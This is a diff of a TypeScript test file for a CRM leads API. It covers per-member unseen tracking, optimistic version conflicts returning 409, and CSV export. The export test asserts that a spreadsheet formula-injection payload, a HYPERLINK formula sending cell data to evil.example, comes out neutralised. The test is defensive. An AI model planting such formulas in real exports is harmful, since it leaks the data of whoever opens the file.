@@ -1,12 +1,11 @@
 import { eq } from "drizzle-orm";
 import type { FastifyInstance } from "fastify";
 import { describe, expect, it } from "vitest";
-import { auditEvents, contacts, leadNotes, teamMembers } from "../db/schema";
+import { auditEvents, contacts, leadEvents, leadNotes, leadSeen, teamMembers } from "../db/schema";
 import { startApp } from "../testing/app";
 import { addLeads, addMember, as } from "../testing/inbox";
 import { BACKENDS } from "../testing/support";
 import { encodeCursor } from "./list-query";
-import { NEW_COUNT_CAP } from "./seen";
 
 const day = (date: string) => new Date(`${date}T12:00:00Z`);
 
@@ -69,6 +68,7 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
       status: "new",
       assignee: { id: sam.id, name: "Sam" },
       createdAt: "2026-02-06T00:00:00.000Z",
+      locale: "en",
       isNew: true,
     });
 
@@ -103,43 +103,152 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
     expect(await allIds(app, sam, "q=&status=&service=")).toEqual([...ids].reverse());
   });
 
-  it("says what is new since each member's last look, and POST seen makes it old", async () => {
+  it("keeps a lead unseen per member until that member opens it or marks it seen, and counts unseen leads exactly", async () => {
     const app = await startApp(backend);
+    const { db } = app.database;
     const sam = await addMember(app, "sales", "Sam");
     const olivia = await addMember(app, "owner", "Olivia");
-    await addLeads(app, [{}, {}, {}]);
-    const list = async (member = sam) =>
-      (await as(app, member).get("/api/team/leads")).json<{
-        items: { id: number; isNew: boolean }[];
-        newCount: number;
-      }>();
-    expect((await list()).items.map((item) => item.isNew)).toEqual([true, true, true]);
+    const ids = await addLeads(app, [{}, {}, {}, { locale: "de" }]);
+    type List = { items: { id: number; isNew: boolean }[]; newCount: number; asOf: string };
+    const list = async (member = sam, query = "") =>
+      (await as(app, member).get(`/api/team/leads${query}`)).json<List>();
+    const unseenIds = async (member = sam) =>
+      (await list(member)).items.filter((item) => item.isNew).map((item) => item.id);
+
+    // Loading and filtering lists, again and again, changes nothing.
+    expect((await list()).newCount).toBe(4);
+    await list(sam, "?status=new");
+    await list(sam, "?language=de");
+    expect(await unseenIds()).toEqual([...ids].reverse());
+    expect((await list()).newCount).toBe(4);
+
+    // Opening a lead is seeing it, for that member only; it says it was new to them when opened.
+    const opened = await as(app, sam).get(`/api/team/leads/${ids[1]}`);
+    expect(opened.json().lead.isNew).toBe(true);
+    expect((await as(app, sam).get(`/api/team/leads/${ids[1]}`)).json().lead.isNew).toBe(false);
+    expect(await unseenIds()).toEqual([ids[3], ids[2], ids[0]]);
     expect((await list()).newCount).toBe(3);
-
-    const seen = await as(app, sam).post("/api/team/leads/seen");
-    expect(seen.statusCode).toBe(204);
-    expect((await list()).items.map((item) => item.isNew)).toEqual([false, false, false]);
-    expect((await list()).newCount).toBe(0);
-
-    const [later] = await addLeads(app, [{ createdAt: new Date(Date.now() + 1000) }]);
-    const after = await list();
-    expect(after.newCount).toBe(1);
-    expect(after.items.filter((item) => item.isNew).map((item) => item.id)).toEqual([later]);
-    // Another member's last look is their own.
     expect((await list(olivia)).newCount).toBe(4);
-    const [row] = await app.database.db
+
+    // Marking some seen, by id (unknown ids are ignored); the unseen filter lists exactly the rest.
+    expect((await as(app, sam).post("/api/team/leads/seen", { ids: [ids[0]!, 999_999] })).statusCode).toBe(204);
+    expect((await list(sam, "?seen=unseen")).items.map((item) => item.id)).toEqual([ids[3], ids[2]]);
+    expect((await list(sam, "?seen=unseen&language=de")).items.map((item) => item.id)).toEqual([ids[3]]);
+
+    // "Mark all as seen" up to the list's time: a lead that arrives after the member looked stays unseen.
+    const { asOf } = await list();
+    const [later] = await addLeads(app, [{ createdAt: new Date(Date.now() + 60_000) }]);
+    expect((await as(app, sam).post("/api/team/leads/seen", { upTo: asOf })).statusCode).toBe(204);
+    expect(await unseenIds()).toEqual([later]);
+    expect((await list()).newCount).toBe(1);
+    // The single marks the mark now covers are forgotten; a stale tab's older mark never moves it back.
+    expect(await db.select().from(leadSeen).where(eq(leadSeen.memberId, sam.id))).toEqual([]);
+    await as(app, sam).post("/api/team/leads/seen", { upTo: "2020-01-01T00:00:00Z" });
+    expect(await unseenIds()).toEqual([later]);
+    // Another member's view is their own.
+    expect((await list(olivia)).newCount).toBe(5);
+    const [row] = await db
       .select({ seen: teamMembers.leadsSeenAt })
       .from(teamMembers)
       .where(eq(teamMembers.id, olivia.id));
     expect(row!.seen).toBeNull();
 
-    // New leads are counted up to NEW_COUNT_CAP ("1,000 or more"): a member away for months does not have the table counted on every page.
+    // Counts are exact, not capped.
     await addLeads(
       app,
-      Array.from({ length: NEW_COUNT_CAP }, () => ({ createdAt: new Date(Date.now() + 2000) })),
+      Array.from({ length: 1503 }, () => ({ createdAt: new Date(Date.now() + 120_000) })),
     );
-    expect((await list()).newCount).toBe(NEW_COUNT_CAP);
-    expect((await list(olivia)).newCount).toBe(NEW_COUNT_CAP);
+    expect((await list()).newCount).toBe(1504);
+    expect((await list(olivia)).newCount).toBe(1508);
+
+    for (const [payload, field] of [
+      [{ ids: [] }, "ids"],
+      [{ ids: ["1"] }, "ids"],
+      [{ ids: Array.from({ length: 501 }, (_, index) => index + 1) }, "ids"],
+      [{ upTo: "yesterday" }, "upTo"],
+      [{ other: 1 }, "form"],
+    ] as const) {
+      const refused = await as(app, sam).post("/api/team/leads/seen", payload);
+      expect(refused.statusCode, JSON.stringify(payload).slice(0, 40)).toBe(400);
+      expect(Object.keys(refused.json().fields), JSON.stringify(payload).slice(0, 40)).toEqual([field]);
+    }
+  });
+
+  it("refuses a save based on an older version with 409, what changed since and by whom, and keeps the colleague's change", async () => {
+    const app = await startApp(backend);
+    const { db } = app.database;
+    const sam = await addMember(app, "sales", "Sam");
+    const olivia = await addMember(app, "owner", "Olivia");
+    const [id] = await addLeads(app, [{}]);
+    const read = async (member = sam) => (await as(app, member).get(`/api/team/leads/${id}`)).json();
+    const opened = await read();
+    expect(opened.lead.version).toBe(1);
+    expect(opened.changes).toEqual([]);
+    const theirs = await read(olivia);
+
+    // Sam assigns it to himself and marks it contacted: version 2, two changes on the timeline.
+    const saved = await as(app, sam).patch(`/api/team/leads/${id}`, {
+      version: 1,
+      status: "contacted",
+      assigneeId: sam.id,
+    });
+    expect(saved.statusCode, saved.body).toBe(200);
+    expect(saved.json().lead).toMatchObject({ version: 2, status: "contacted", assignee: { id: sam.id } });
+    expect(saved.json().changes).toMatchObject([
+      { version: 2, actor: { id: sam.id, name: "Sam" }, kind: "status", from: "new", to: "contacted" },
+      { version: 2, actor: { id: sam.id, name: "Sam" }, kind: "assignee", from: null, to: { id: sam.id, name: "Sam" } },
+    ]);
+
+    // Olivia's page still shows version 1: her save is refused, nothing changes, and she is told what changed.
+    const stale = await as(app, olivia).patch(`/api/team/leads/${id}`, {
+      version: theirs.lead.version,
+      status: "lost",
+    });
+    expect(stale.statusCode).toBe(409);
+    expect(stale.json().error).toMatch(/^Sam changed this lead after you opened it\./);
+    expect(stale.json().lead).toMatchObject({ id, version: 2, status: "contacted", assignee: { id: sam.id } });
+    expect(stale.json().changes.map((change: { kind: string; to: unknown }) => [change.kind, change.to])).toEqual([
+      ["status", "contacted"],
+      ["assignee", { id: sam.id, name: "Sam" }],
+    ]);
+    const [row] = await db.select().from(contacts).where(eq(contacts.id, id!));
+    expect([row!.status, row!.version]).toEqual(["contacted", 2]);
+
+    // Re-applied on the version she was shown, it saves; only what differs is a change.
+    const reapplied = await as(app, olivia).patch(`/api/team/leads/${id}`, {
+      version: 2,
+      status: "lost",
+      assigneeId: sam.id,
+    });
+    expect(reapplied.statusCode).toBe(200);
+    expect(reapplied.json().lead.version).toBe(3);
+    expect(
+      (await read()).changes.map((change: { version: number; kind: string }) => [change.version, change.kind]),
+    ).toEqual([
+      [2, "status"],
+      [2, "assignee"],
+      [3, "status"],
+    ]);
+    // A save that changes nothing keeps the version and records nothing.
+    const same = await as(app, sam).patch(`/api/team/leads/${id}`, { version: 3, status: "lost" });
+    expect(same.json().lead.version).toBe(3);
+    expect(await db.select().from(leadEvents)).toHaveLength(3);
+
+    // Two saves on the same version at once: exactly one wins.
+    const race = await Promise.all(
+      (["won", "qualified"] as const).map((status, index) =>
+        as(app, index ? olivia : sam).patch(`/api/team/leads/${id}`, { version: 3, status }),
+      ),
+    );
+    expect(race.map((response) => response.statusCode).sort()).toEqual([200, 409]);
+    expect((await read()).lead.version).toBe(4);
+
+    // A save without a version, or with a malformed one, is a 400 on the version.
+    for (const payload of [{ status: "won" }, { version: "4", status: "won" }, { version: 0, status: "won" }]) {
+      const refused = await as(app, sam).patch(`/api/team/leads/${id}`, payload);
+      expect(refused.statusCode).toBe(400);
+      expect(Object.keys(refused.json().fields)).toEqual(["version"]);
+    }
   });
 
   it("shows a lead whole with its notes and a reply link, changes its status and assignee, and keeps notes with their author", async () => {
@@ -186,7 +295,7 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
     ]);
     expect(new URL(detail.json().reply).searchParams.get("subject")).toBe("Re: your enquiry to Alphai");
 
-    const won = await as(app, sam).patch(`/api/team/leads/${id}`, { status: "won", assigneeId: olivia.id });
+    const won = await as(app, sam).patch(`/api/team/leads/${id}`, { version: 1, status: "won", assigneeId: olivia.id });
     expect(won.statusCode, won.body).toBe(200);
     expect(won.json().lead).toMatchObject({
       id,
@@ -199,17 +308,19 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
 
     // Only an active owner or sales member takes a lead; null is nobody.
     for (const assigneeId of [recruiter.id, gone.id, 999_999]) {
-      const refused = await as(app, sam).patch(`/api/team/leads/${id}`, { assigneeId });
+      const refused = await as(app, sam).patch(`/api/team/leads/${id}`, { version: 2, assigneeId });
       expect(refused.statusCode).toBe(400);
       expect(Object.keys(refused.json().fields)).toEqual(["assigneeId"]);
     }
-    expect((await as(app, sam).patch(`/api/team/leads/${id}`, { assigneeId: null })).json().lead.assignee).toBeNull();
+    expect(
+      (await as(app, sam).patch(`/api/team/leads/${id}`, { version: 2, assigneeId: null })).json().lead.assignee,
+    ).toBeNull();
     for (const [payload, field] of [
-      [{}, "form"],
-      [{ status: "closed" }, "status"],
-      [{ status: "won", extra: 1 }, "form"],
-      [{ assigneeId: "1" }, "assigneeId"],
-      [{ assigneeId: 1.5 }, "assigneeId"],
+      [{ version: 3 }, "form"],
+      [{ version: 3, status: "closed" }, "status"],
+      [{ version: 3, status: "won", extra: 1 }, "form"],
+      [{ version: 3, assigneeId: "1" }, "assigneeId"],
+      [{ version: 3, assigneeId: 1.5 }, "assigneeId"],
     ] as const) {
       const refused = await as(app, sam).patch(`/api/team/leads/${id}`, payload);
       expect(refused.statusCode, JSON.stringify(payload)).toBe(400);
@@ -302,7 +413,7 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
     });
     for (const response of [
       await as(app, sam).get("/api/team/leads/999999"),
-      await as(app, sam).patch("/api/team/leads/999999", { status: "won" }),
+      await as(app, sam).patch("/api/team/leads/999999", { version: 1, status: "won" }),
       await as(app, sam).post("/api/team/leads/999999/notes", { body: "Hello" }),
     ]) {
       expect(response.statusCode).toBe(404);
@@ -335,7 +446,7 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
     );
     expect(response.headers["cache-control"]).toBe("no-store");
     const lines = response.body.trimEnd().split("\n");
-    expect(lines[0]).toBe("id,date,status,assignee,name,email,company,phone,service,budget,currency,message");
+    expect(lines[0]).toBe("id,date,status,assignee,name,email,company,phone,service,budget,currency,language,message");
     // 61 won leads, one of them with a line break in its message (quoted, on two lines).
     expect(lines).toHaveLength(1 + 61 + 1);
     expect(response.body).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
@@ -345,7 +456,9 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
     expect(response.body).not.toMatch(/(^|,)[=@+-]/m);
 
     const empty = await as(app, sam).get("/api/team/leads/export.csv?status=spam");
-    expect(empty.body).toBe("id,date,status,assignee,name,email,company,phone,service,budget,currency,message\n");
+    expect(empty.body).toBe(
+      "id,date,status,assignee,name,email,company,phone,service,budget,currency,language,message\n",
+    );
     const events = await app.database.db
       .select()
       .from(auditEvents)
